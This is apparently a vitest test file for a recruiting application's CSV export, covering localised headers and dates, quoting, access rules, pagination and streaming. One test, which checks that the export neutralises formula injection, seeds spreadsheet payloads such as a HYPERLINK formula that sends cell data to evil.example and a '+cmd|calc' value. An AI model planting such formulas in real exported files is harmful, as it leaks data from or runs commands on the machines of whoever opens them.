import { expect, it } from 'vitest';
import { toApiDate } from '../../src/common/dates';
import { asText, BOM, parseCsv, startsLikeFormula } from './csv';
import { CALLS, CANDIDATES, exportScene, fetchExport, listOf, type Lang } from './export-scene';
import { addUser, insertCandidates, insertCompany } from './fixtures';
import { describeEachDatabase, type TestApi } from './harness';
import { describeCall, unpaged, type ListCall } from './lists/calls';

/**
 * Issue 12, export: every list call answers `format=csv` with the records its unpaged JSON list gives, in the
 * same order, as the list screen shows them, in the caller's language.
 */

const SEPARATOR = { en: ',', de: ';' };

interface CsvAnswer {
  status: number;
  headers: Headers;
  text: string;
}

async function exportOf(api: TestApi, token: string, call: ListCall, lang: Lang): Promise<CsvAnswer> {
  const response = await fetchExport(api, token, call, lang, 'csv');
  // text() would drop the byte-order mark: the bytes are decoded as they came.
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await response.arrayBuffer());
  return { status: response.status, headers: response.headers, text };
}

/** The export, checked to be the list's JSON rows as its screen shows them; its parsed data rows. */
async function exportsAsListed(api: TestApi, token: string, call: ListCall, lang: Lang): Promise<string[][]> {
  const { resource, screen } = listOf(call, lang);
  const file = await exportOf(api, token, call, lang);
  expect(file.status).toBe(200);
  expect(file.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  expect(file.headers.get('content-disposition')).toBe(
    `attachment; filename="${resource}-${toApiDate(new Date())}.csv"`,
  );
  expect(file.text.startsWith(BOM)).toBe(true);
  const rows = parseCsv(file.text.slice(BOM.length), SEPARATOR[lang]);
  expect(rows[0]).toEqual(screen.header);
  const listed = await unpaged(api, token, call);
  expect(listed.status).toBe(200);
  const items = listed.body.response as never[];
  const data = rows.slice(1);
  const expected = items.map((item) => screen.row(item).map(asText));
  expect(data.map((row) => row[0])).toEqual(expected.map((row) => row[0]));
  expect(data).toEqual(expected);
  return data;
}

describeEachDatabase('a list exported as CSV', (api) => {
  const { admin, records, leaveMidway, readStreamed } = exportScene(api, 'csv');

  it.each(
    CALLS.flatMap((call) => (['en', 'de'] as const).map((lang) => [describeCall(call), lang, call] as const)),
  )(
    "%s [%s]: the file holds the list's records in its order, as its screen shows them",
    async (_title, lang, call) => {
      const rows = await exportsAsListed(api(), admin(), call, lang);
      expect(rows.length).toBeGreaterThan(0);
    },
  );

  it('German: semicolons, German headers and status words; English: commas; every text in quotes', async () => {
    const call: ListCall = { name: 'candidateList', params: { status: 'all' }, query: { search: 'Groß' } };
    const german = await exportOf(api(), admin(), call, 'de');
    const english = await exportOf(api(), admin(), call, 'en');
    const firstLine = (text: string) => text.slice(0, text.indexOf('\r\n'));
    expect(firstLine(german.text)).toBe(
      `${BOM}"Name";"E-Mail";"Telefon";"Stellentitel";"Firma";"Bewerbungsstatus";"Aktivstatus";"Beworben am"`,
    );
    expect(firstLine(english.text)).toBe(
      `${BOM}"Name","Email","Phone","Vacancy title","Company","Application status","Active state","Applied on"`,
    );
    expect(german.text).toMatch(
      /;"(Beworben|Kontaktiert|Erstes Vorstellungsgespräch)";"(Aktiv|Inaktiv)";"\d\d\.\d\d\.2024"\r\n/,
    );
    expect(english.text).toMatch(
      /,"(Applied|Contacted|First interview)","(Active|Inactive)","2024-\d\d-\d\d"\r\n/,
    );
  });

  it('writes dates as YYYY-MM-DD in English and DD.MM.YYYY in German, and quotes what needs quoting', async () => {
    const vacancy = records().vacancies[0] ?? expect.fail('no vacancy');
    await insertCandidates(api(), vacancy.id, [
      {
        candidate_name: 'Doe, "Jay"; Jr.',
        created_at: '2024-03-07T12:00:00.000Z',
        candidate_status: 'Employed',
      },
    ]);
    const call: ListCall = { name: 'candidateList', params: { status: 'all' }, query: { search: 'jay' } };
    for (const lang of ['en', 'de'] as const) {
      const file = await exportOf(api(), admin(), call, lang);
      expect(file.text).toContain('"Doe, ""Jay""; Jr."');
      const [, row] = parseCsv(file.text.slice(BOM.length), SEPARATOR[lang]);
      expect(row?.[0]).toBe('Doe, "Jay"; Jr.');
      expect(row?.[5]).toBe(lang === 'de' ? 'Eingestellt' : 'Employed');
      expect(row?.at(-1)).toBe(lang === 'de' ? '07.03.2024' : '2024-03-07');
    }
    const vacancyList: ListCall = { name: 'vacancyList', params: { type: 'all' } };
    const german = await exportOf(api(), admin(), vacancyList, 'de');
    expect(german.text).toContain(`;"${vacancy.vacancy_start_date.split('-').reverse().join('.')}";`);
    const english = await exportOf(api(), admin(), vacancyList, 'en');
    expect(english.text).toContain(`,"${vacancy.vacancy_start_date}",`);
  });

  it('keeps a cell that starts like a formula as text, so that opening the file runs nothing', async () => {
    const vacancy = records().vacancies[0] ?? expect.fail('no vacancy');
    const name = '=HYPERLINK("https://evil.example/?"&A1,"CV")';
    await insertCandidates(api(), vacancy.id, [
      {
        candidate_name: name,
        candidate_email: '@SUM(1+1)@evil.example',
        candidate_phone_number: '+49 30 1234567',
      },
    ]);
    const call: ListCall = {
      name: 'candidateList',
      params: { status: 'all' },
      query: { search: 'hyperlink' },
    };
    for (const lang of ['en', 'de'] as const) {
      const file = await exportOf(api(), admin(), call, lang);
      const [, row] = parseCsv(file.text.slice(BOM.length), SEPARATOR[lang]);
      expect(row?.slice(0, 3)).toEqual([`'${name}`, "'@SUM(1+1)@evil.example", "'+49 30 1234567"]);
    }
  });

  it('keeps line breaks and either language’s separator inside one cell, and no piece of it a formula', async () => {
    const vacancy = records().vacancies[0] ?? expect.fail('no vacancy');
    const names = [
      'Quokka Doe\n=1+1',
      'Quokka Cr\r+cmd|calc',
      'Quokka Crlf\r\n@SUM(1)',
      'Quokka x;=1+1;',
      'Quokka y,=1+1,',
      'Quokka\n\r\n-2+3',
    ];
    await insertCandidates(
      api(),
      vacancy.id,
      names.map((candidate_name) => ({ candidate_name, candidate_phone_number: `0;=2\n+49` })),
    );
    const call: ListCall = {
      name: 'candidateList',
      params: { status: 'all' },
      query: { search: 'quokka', ordering: 'created_at' },
    };
    for (const lang of ['en', 'de'] as const) {
      const file = await exportOf(api(), admin(), call, lang);
      const text = file.text.slice(BOM.length);
      const [header, ...rows] = parseCsv(text, SEPARATOR[lang]);
      expect(rows).toHaveLength(names.length);
      expect(rows.every((row) => row.length === header?.length)).toBe(true);
      expect(rows.map((row) => row[0]).sort()).toEqual(names.map(asText).sort());
      expect(rows.map((row) => row[2])).toEqual(names.map(() => "0;'=2\n'+49"));
      // Every text in quotes, whichever of the file's separators or line breaks it holds.
      for (const name of names) expect(text).toContain(`\r\n"${asText(name)}"${SEPARATOR[lang]}`);
      // Split by lines and by both separators, as a careless or other-language program does: no formula.
      expect(text.split(/\r\n|\r|\n|,|;/).filter(startsLikeFormula)).toEqual([]);
    }
  });

  it('ignores page and page_size: every matching record', async () => {
    const call: ListCall = { name: 'userList', query: { page: '2', page_size: '5' } };
    const file = await exportOf(api(), admin(), call, 'en');
    const rows = parseCsv(file.text.slice(BOM.length), ',');
    // The administrator of the administration company comes with every installation.
    expect(rows).toHaveLength(1 + records().users.length + 1);
  });

  it("keeps the list's role and company rules", async () => {
    const company = records().companies[1] ?? expect.fail('no company');
    const { token: customerAdmin } = await addUser(api(), admin(), {
      user_role: 'CustomerAdmin',
      company_uuid: company.company_uid,
    });
    const { token: staff } = await addUser(api(), admin(), {
      user_role: 'StaffAdmin',
      company_uuid: company.company_uid,
    });
    const all: ListCall = { name: 'candidateList', params: { status: 'all' } };
    const own = await exportsAsListed(api(), customerAdmin, all, 'de');
    expect(own.length).toBeGreaterThan(0);
    expect(new Set(own.map((row) => row[4]))).toEqual(new Set([company.company_name]));
    const users = await exportsAsListed(api(), customerAdmin, { name: 'userList' }, 'en');
    expect(new Set(users.map((row) => row[3]))).toEqual(new Set([company.company_name]));
    const refused = await exportOf(api(), staff, { name: 'userList' }, 'en');
    expect(refused.status).toBe(403);
    expect(refused.headers.get('content-type')).toMatch(/^application\/json/);
    const anonymous = await exportOf(api(), '', all, 'en');
    expect(anonymous.status).toBe(401);
  });

  it("exports one company's users exactly (a company's own user list), not those of a company named alike", async () => {
    const acme = await insertCompany(api(), { company_name: 'Acme Export' });
    const twin = await insertCompany(api(), { company_name: 'Acme Export Two' });
    for (const [company, email] of [
      [acme, 'first@acme-export.example'],
      [acme, 'second@acme-export.example'],
      [twin, 'other@acme-export.example'],
    ] as const) {
      await addUser(api(), admin(), { user_role: 'StaffAdmin', company_uuid: company.company_uid, email });
    }
    const of = (uid: string): ListCall => ({ name: 'userList', query: { company__company_uid: uid } });
    const rows = await exportsAsListed(api(), admin(), of(acme.company_uid), 'en');
    expect(rows.map((row) => row[1]).sort()).toEqual([
      'first@acme-export.example',
      'second@acme-export.example',
    ]);
    expect(await exportsAsListed(api(), admin(), of('no-such-company'), 'en')).toEqual([]);
  });

  it("refuses an unknown format in the caller's language", async () => {
    const call: ListCall = { name: 'candidateList', params: { status: 'all' }, query: { format: 'pdf' } };
    const answer = await api().call('GET', call.name, call.params, {
      token: admin(),
      query: call.query,
      lang: 'de',
    });
    expect(answer.status).toBe(400);
    expect(JSON.stringify(answer.body)).toContain('Bitte wählen Sie eine der Optionen');
  });

  it('gives back its download slot when the client leaves midway: more left exports than slots', async () => {
    // Refused (503) only until the server has seen the last ones leave: a slot held per left export
    // would refuse every one from the third on, for good.
    await leaveMidway(12);
    // exportsAsListed checks the file against the JSON list: every company, whatever other tests added.
    const rows = await exportsAsListed(api(), admin(), { name: 'companyManagementList' }, 'en');
    expect(rows.length).toBeGreaterThan(records().companies.length);
  });

  it('streams a large export: the first rows arrive before the client has read the rest', async () => {
    const text = (await readStreamed()).toString('utf8');
    expect(text.startsWith(`${BOM}"Name","Email",`)).toBe(true);
    const rows = parseCsv(text.slice(BOM.length), ',');
    expect(rows.length - 1).toBeGreaterThanOrEqual(CANDIDATES);
  });
});
